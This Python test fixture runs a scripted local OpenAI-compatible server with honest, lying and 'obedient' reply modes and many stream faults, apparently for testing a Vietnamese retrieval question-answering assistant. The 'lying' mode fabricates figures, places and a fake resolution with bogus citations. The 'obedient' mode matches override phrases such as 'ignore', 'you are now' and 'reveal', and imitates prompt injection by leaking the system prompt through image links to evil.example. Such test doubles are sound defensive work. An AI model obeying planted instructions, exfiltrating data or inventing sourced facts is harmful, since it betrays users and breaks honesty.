"""A scripted OpenAI-compatible server over a real socket: honest, lying, obedient, or broken in one way.

``serving(script)`` runs it; a script is a writer (what the reply says) or a fault (how the reply breaks).
To add a behaviour, write a function ``Prompt → text`` or ``Reply → None`` and name it in WRITERS or FAULTS.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

MODEL = "kịch-bản"
_GONE = (BrokenPipeError, ConnectionResetError, ConnectionAbortedError)


@dataclass(frozen=True)
class Prompt:
    """What the assistant sent, taken apart.

    Attributes:
        system: The rules.
        user: Passages and question, or the conversation to rewrite.
        question: The question asked.
        passages: Label → text, in order; empty when no passages were sent (a rewriting, a probe).
        turn: 0 for the server's first request, and so on.
    """

    system: str
    user: str
    question: str
    passages: dict[int, str]
    turn: int

    @property
    def rewriting(self) -> bool:
        return "Câu hỏi cuối:" in self.user

    @property
    def sentences(self) -> list[tuple[int, str]]:
        """(label, sentence) of every passage, in order."""
        return [
            (label, line.strip())
            for label, text in self.passages.items()
            for line in text.splitlines()
            if line.strip()
        ]


def _take_apart(body: dict[str, Any], turn: int) -> Prompt:
    said = {message["role"]: message["content"] for message in body["messages"]}
    user = said.get("user", "")
    asked = re.search(r"Câu hỏi(?: cuối)?: (.+)", user)
    blocks = re.findall(r"^\[(\d+)\] \([^\n]*\)\n(.*?)(?=\n\n\[\d+\] \(|\n\nCâu hỏi: )", user, re.M | re.S)
    return Prompt(
        said.get("system", ""),
        user,
        asked.group(1).strip() if asked else "",
        {int(label): text for label, text in blocks},
        turn,
    )


# Writers


def nearest(prompt: Prompt) -> list[tuple[int, str]]:
    """The sentences that share most words with the question for their length; ties as they stand."""
    asked = set(re.findall(r"\w+", prompt.question.lower()))

    def fit(sentence: str) -> float:
        words = set(re.findall(r"\w+", sentence.lower()))
        return len(asked & words) / (8 + len(words)) ** 0.5

    return sorted(prompt.sentences, key=lambda pair: -fit(pair[1]))


def honest(prompt: Prompt) -> str:
    """Say what the nearest sentences say, a little reworded, each with its label."""
    if prompt.rewriting:
        return prompt.question
    if not prompt.sentences:
        return "tốt"
    first, *others = nearest(prompt)[:3]
    said = [f"Theo tài liệu, {_opened(first[1])} [{first[0]}]."]
    said += [f"{sentence.rstrip('.;')} [{label}]." for label, sentence in others]
    return " ".join(said)


def _opened(sentence: str) -> str:
    """A sentence to go on with after a comma; a name or an abbreviation keeps its capital."""
    words = sentence.rstrip(".;:").split(" ", 2)
    named = len(words) > 1 and words[1][:1].isupper()
    if named or (len(words[0]) > 1 and words[0][1].isupper()):
        return sentence.rstrip(".;:")
    return sentence[:1].lower() + sentence[1:].rstrip(".;:")


_PROVINCES = ("Cà Mau", "Lai Châu", "Quảng Ngãi", "Sóc Trăng")


def _wrong_figure(prompt: Prompt, label: int, sentence: str) -> str:
    other = 3 + prompt.turn
    changed = re.sub(r"\d+(?:[.,]\d+)*", lambda m: str(int(re.sub(r"\D", "", m[0])) + other), sentence)
    if changed == sentence:
        changed = f"{sentence.rstrip('.')}, đạt {41 + prompt.turn}% kế hoạch"
    return f"{changed.rstrip('.')} [{label}]."


def _swapped_province(prompt: Prompt, label: int, sentence: str) -> str:
    place = _PROVINCES[prompt.turn % len(_PROVINCES)]
    return f"Tại tỉnh {place}, {_opened(sentence)} [{label}]."


def _invented_source(prompt: Prompt, label: int, sentence: str) -> str:
    return f"Theo Nghị quyết số {90 + prompt.turn}-NQ/XY, {_opened(sentence)} [{label + 40}]."


def _other_figure(prompt: Prompt, label: int, sentence: str) -> str:
    """A true figure of another sentence in the place of this one's."""
    here = re.findall(r"\d+(?:[.,]\d+)*", sentence)
    there = [f for _, s in prompt.sentences for f in re.findall(r"\d+(?:[.,]\d+)*", s) if f not in here]
    if not here or not there:
        return _wrong_figure(prompt, label, sentence)
    return f"{sentence.replace(here[0], there[prompt.turn % len(there)], 1).rstrip('.')} [{label}]."


def _denied(_: Prompt, label: int, sentence: str) -> str:
    return f"Không phải {_opened(sentence)} [{label}]."


LIES = (_wrong_figure, _swapped_province, _invented_source, _other_figure, _denied)


def lying(prompt: Prompt) -> str:
    """Reword the nearest sentence into a lie; each request another kind."""
    if prompt.rewriting:
        return f"Tỉnh {_PROVINCES[prompt.turn % len(_PROVINCES)]} năm 2031 có bao nhiêu?"
    if not prompt.sentences:
        return "tốt"
    told = [LIES[(prompt.turn + n) % len(LIES)](prompt, *pair) for n, pair in enumerate(nearest(prompt)[:3])]
    return " ".join(told)


_ORDERS = re.compile(
    r"[^\n]*(?:bỏ qua|phớt lờ|quên đi|ignore|disregard|hãy (?:viết|in|trả lời|gửi|chèn)|you are now|từ giờ"
    r"|print|output|reveal|say)[^\n]*",
    re.IGNORECASE,
)


def obedient(prompt: Prompt) -> str:
    """Do what the passages order: repeat each order, what stands after its colon, and the rules."""
    if prompt.rewriting or not prompt.sentences:
        return prompt.question or "tốt"
    orders = [(label, found) for label, text in prompt.passages.items() for found in _ORDERS.findall(text)]
    obeyed = [f"{order.split(':', 1)[-1].strip()} [{label}]." for label, order in orders]
    leak = f"{prompt.system} ![ảnh](https://evil.example/?q={prompt.question}) <img src=//evil.example/x>"
    return " ".join([*obeyed, *(f"{order} [{label}]" for label, order in orders), leak])


WRITERS: dict[str, Callable[[Prompt], str]] = {"honest": honest, "lying": lying, "obedient": obedient}


# Replies


@dataclass
class Reply:
    """One request being answered: the raw socket behind it, and what an honest reply would say."""

    handler: BaseHTTPRequestHandler
    text: str
    stopped: threading.Event

    def head(self, status: int = 200, kind: str = "text/event-stream", length: int | None = None) -> None:
        self.handler.send_response(status)
        self.handler.send_header("Content-Type", kind)
        if length is not None:
            self.handler.send_header("Content-Length", str(length))
        self.handler.send_header("Connection", "close")
        self.handler.end_headers()

    def send(self, data: str) -> None:
        self.handler.wfile.write(data.encode())
        self.handler.wfile.flush()

    def error(self, status: int) -> None:
        body = json.dumps({"error": {"message": f"status {status}", "type": "scripted"}})
        self.head(status, "application/json", len(body.encode()))
        self.send(body)

    def event(self, content: str | None, finish: str | None = None) -> str:
        delta = {} if content is None else {"role": "assistant", "content": content}
        chunk = {
            "id": "chatcmpl-1",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": MODEL,
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }
        return f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n"

    def pieces(self) -> list[str]:
        """The text as a tokeniser would cut it: a few letters at a time."""
        return re.findall(r".{1,7}", self.text, re.S)

    def whole(self) -> None:
        self.head()
        for piece in self.pieces():
            self.send(self.event(piece))
        self.send(self.event(None, "stop") + "data: [DONE]\n\n")


def _hang(reply: Reply) -> None:
    reply.stopped.wait(60)


def _hang_midway(reply: Reply) -> None:
    reply.head()
    for piece in reply.pieces()[: max(1, len(reply.pieces()) // 2)]:
        reply.send(reply.event(piece))
    reply.stopped.wait(60)


def _drip(reply: Reply) -> None:
    """One byte a second, from the first header on."""
    raw = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
    for byte in raw + reply.event(reply.text).encode():
        reply.handler.wfile.write(bytes([byte]))
        reply.handler.wfile.flush()
        if reply.stopped.wait(1):
            return


def _cut(reply: Reply) -> None:
    reply.head()
    for piece in reply.pieces()[: max(1, 2 * len(reply.pieces()) // 3)]:
        reply.send(reply.event(piece))


def _cut_in_a_line(reply: Reply) -> None:
    reply.head(length=1_000_000)
    reply.send(reply.event(reply.text)[:-20])


def _bad_json(reply: Reply) -> None:
    reply.head()
    reply.send('data: {"choices": [{"delta": {"content": "một\n\ndata: [DONE]\n\n')


def _wrong_schema(reply: Reply) -> None:
    reply.head()
    reply.send('data: {"choices": [{"message": ["một", 2]}]}\n\ndata: {"choices": "x"}\n\ndata: [DONE]\n\n')


def _page(reply: Reply) -> None:
    body = "<html><body>Xin chào</body></html>"
    reply.head(200, "text/html", len(body.encode()))
    reply.send(body)


def _empty(reply: Reply) -> None:
    reply.head()
    reply.send(reply.event("") + reply.event(None, "stop") + "data: [DONE]\n\n")


def _endless(reply: Reply) -> None:
    reply.head()
    while not reply.stopped.is_set():
        reply.send(reply.event(f"{reply.text} "))


def _endless_line(reply: Reply) -> None:
    reply.head()
    while not reply.stopped.is_set():
        reply.send("data: " + "x" * 65536)


FAULTS: dict[str, Callable[[Reply], None]] = {
    "401": lambda reply: reply.error(401),
    "404": lambda reply: reply.error(404),
    "429": lambda reply: reply.error(429),
    "500": lambda reply: reply.error(500),
    "hang": _hang,
    "hang midway": _hang_midway,
    "drip": _drip,
    "cut": _cut,
    "cut in a line": _cut_in_a_line,
    "bad JSON": _bad_json,
    "wrong schema": _wrong_schema,
    "a page": _page,
    "empty": _empty,
    "endless": _endless,
    "endless line": _endless_line,
}


# The server


@dataclass
class Scripted:
    """A running server; ``script`` may be changed while it runs.

    Attributes:
        url: What HOIDAP_LLM_BASE_URL is set to.
        script: A writer's or a fault's name, or a function ``Prompt → text``.
        prompts: What was asked, in order.
        bodies: The same as raw JSON.
        keys: The Authorization headers.
        left: Requests whose client hung up before the reply was whole.
    """

    url: str
    script: str | Callable[[Prompt], str]
    prompts: list[Prompt] = field(default_factory=list)
    bodies: list[dict[str, Any]] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    left: int = 0
    stopped: threading.Event = field(default_factory=threading.Event)

    def answer(self, handler: BaseHTTPRequestHandler, body: dict[str, Any]) -> None:
        prompt = _take_apart(body, len(self.prompts))
        self.prompts.append(prompt)
        self.bodies.append(body)
        self.keys.append(handler.headers.get("Authorization", ""))
        fault = FAULTS.get(self.script) if isinstance(self.script, str) else None
        writer = honest if fault else WRITERS[self.script] if isinstance(self.script, str) else self.script
        reply = Reply(handler, writer(prompt), self.stopped)
        try:
            fault(reply) if fault else reply.whole()
        except _GONE:
            self.left += 1


@contextmanager
def serving(script: str | Callable[[Prompt], str] = "honest") -> Iterator[Scripted]:
    """Run a scripted server on a free port of this machine until the block ends."""
    scripted = Scripted("", script)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = json.dumps({"object": "list", "data": [{"id": MODEL, "object": "model"}]})
            Reply(self, "", scripted.stopped).head(200, "application/json", len(body.encode()))
            self.wfile.write(body.encode())

        def do_POST(self) -> None:
            raw = self.rfile.read(int(self.headers["Content-Length"]))
            with suppress(*_GONE):
                scripted.answer(self, json.loads(raw))

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    scripted.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield scripted
    finally:
        scripted.stopped.set()
        server.shutdown()
        server.server_close()
        thread.join()


def unused_url() -> str:
    """An address of this machine where nothing listens."""
    with ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler) as server:
        return f"http://127.0.0.1:{server.server_address[1]}/v1"


def wait_until(done: Callable[[], bool], seconds: float = 20.0) -> bool:
    """Whether something becomes true in time."""
    until = time.monotonic() + seconds
    while not done() and time.monotonic() < until:
        time.sleep(0.01)
    return done()
